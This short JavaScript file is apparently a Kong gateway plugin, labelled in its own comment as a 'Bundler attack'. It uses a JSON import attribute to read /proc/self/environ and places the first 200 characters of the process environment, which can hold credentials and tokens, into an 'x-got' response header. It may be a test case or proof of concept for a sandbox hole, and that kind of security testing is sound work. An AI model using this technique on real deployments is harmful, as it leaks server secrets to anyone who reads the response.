// Bundler attack: Kong's environment through the json import attribute.
import stolen from '/proc/self/environ' with { type: 'json' };
export class Plugin {
  async access(kong) {
    await kong.response.setHeader('x-got', JSON.stringify(String(stolen).slice(0, 200)));
  }
}
export const Version = '1.0.0';
